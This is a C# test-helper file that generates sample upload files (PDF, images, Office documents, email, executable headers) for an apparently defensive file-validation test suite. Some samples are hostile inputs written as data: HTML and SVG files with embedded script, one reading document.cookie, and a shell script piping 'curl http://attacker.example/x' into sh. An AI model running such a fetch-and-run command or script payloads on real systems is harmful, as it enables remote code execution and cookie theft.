using System.IO.Compression;
using System.Text;

namespace DueDiligence.Web.Tests.Evidence;

/// <summary>Small but structurally real sample files, made in code so that the tests carry no binary fixtures.</summary>
internal static class SampleFiles
{
    public static byte[] Pdf() => Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
        + "trailer << /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A 1×1 pixel PNG.</summary>
    public static byte[] Png() => Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=");

    /// <summary>A JFIF header and end-of-image marker: enough for the signature check.</summary>
    public static byte[] Jpeg() =>
        [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xFF, 0xD9];

    public static byte[] Docx() => Zip(
        ("[Content_Types].xml", ContentTypesXml),
        ("_rels/.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>"),
        ("word/document.xml", "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body/></w:document>"));

    public static byte[] Xlsx() => Zip(
        ("[Content_Types].xml", ContentTypesXml),
        ("xl/workbook.xml", "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>"));

    /// <summary>As Word saves a macro-enabled document: the VBA project is declared by its content type.</summary>
    public static byte[] DocxWithMacros() => Zip(
        ("[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"),
        ("word/document.xml", "<w:document/>"),
        ("word/vbaProject.bin", "macro"));

    /// <summary>A ZIP that is not an Office document.</summary>
    public static byte[] PlainZip() => Zip(("readme.txt", "hello"), ("photos/site.txt", "not really"));

    public static byte[] Text() => Encoding.UTF8.GetBytes("Audit finding 3: NDA signed on 2024-05-02 — Zertifikat gültig, 認証済み.\n");

    public static byte[] Utf16Text() => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("Supplier confirmation — 供应商确认\r\n")];

    public static byte[] Latin1Text() => Encoding.Latin1.GetBytes("Zertifikat gültig bis 2027\n");

    public static byte[] Eml() => Encoding.ASCII.GetBytes(
        "Received: from mail.supplier.example by mx.example.com; Mon, 3 Jun 2024 09:12:01 +0800\r\n"
        + "From: Quality <quality@supplier.example>\r\nTo: analyst@example.com\r\nSubject: ISO 27001 certificate\r\n"
        + "Date: Mon, 3 Jun 2024 09:12:00 +0800\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
        + "Please find our certificate attached.\r\n");

    /// <summary>The header of an OLE compound file (as Outlook writes .msg), padded to one sector.</summary>
    public static byte[] Msg()
    {
        var bytes = new byte[1024];
        byte[] magic = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        magic.CopyTo(bytes, 0);
        bytes[0x1A] = 0x3E; // minor version
        bytes[0x1C] = 0xFE; // byte order FFFE
        bytes[0x1D] = 0xFF;
        bytes[0x1E] = 0x09; // sector shift: 512-byte sectors
        return bytes;
    }

    /// <summary>A DOS header pointing at a PE signature, as every Windows .exe and .dll starts.</summary>
    public static byte[] WindowsExecutable()
    {
        var bytes = new byte[512];
        bytes[0] = (byte)'M';
        bytes[1] = (byte)'Z';
        bytes[0x3C] = 0x80;
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        return bytes;
    }

    public static byte[] Elf()
    {
        var bytes = new byte[256];
        byte[] header = [0x7F, (byte)'E', (byte)'L', (byte)'F', 0x02, 0x01, 0x01];
        header.CopyTo(bytes, 0);
        return bytes;
    }

    public static byte[] Html() => Encoding.UTF8.GetBytes("<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n");

    public static byte[] Svg() => Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n");

    public static byte[] ShellScript() => Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://attacker.example/x | sh\n");

    public static byte[] Sized(int length, byte fill = (byte)'a') => Enumerable.Repeat(fill, length).ToArray();

    private const string ContentTypesXml =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";

    private static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open());
                writer.Write(content);
            }
        }

        return buffer.ToArray();
    }
}

/// <summary>An upload stream that cannot tell its length in advance (as a network stream), counting what is read from it.</summary>
internal sealed class UnknownLengthStream(byte[] content) : Stream
{
    private readonly MemoryStream inner = new(content);

    public long BytesRead { get; private set; }

    public override bool CanRead => true;

    public override bool CanSeek => false;

    public override bool CanWrite => false;

    public override long Length => throw new NotSupportedException();

    public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }

    public override int Read(byte[] buffer, int offset, int count)
    {
        var read = inner.Read(buffer, offset, count);
        BytesRead += read;
        return read;
    }

    public override async ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default)
    {
        var read = await inner.ReadAsync(buffer, cancellationToken);
        BytesRead += read;
        return read;
    }

    public override void Flush()
    {
    }

    public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

    public override void SetLength(long value) => throw new NotSupportedException();

    public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();

    protected override void Dispose(bool disposing)
    {
        if (disposing)
        {
            inner.Dispose();
        }

        base.Dispose(disposing);
    }
}
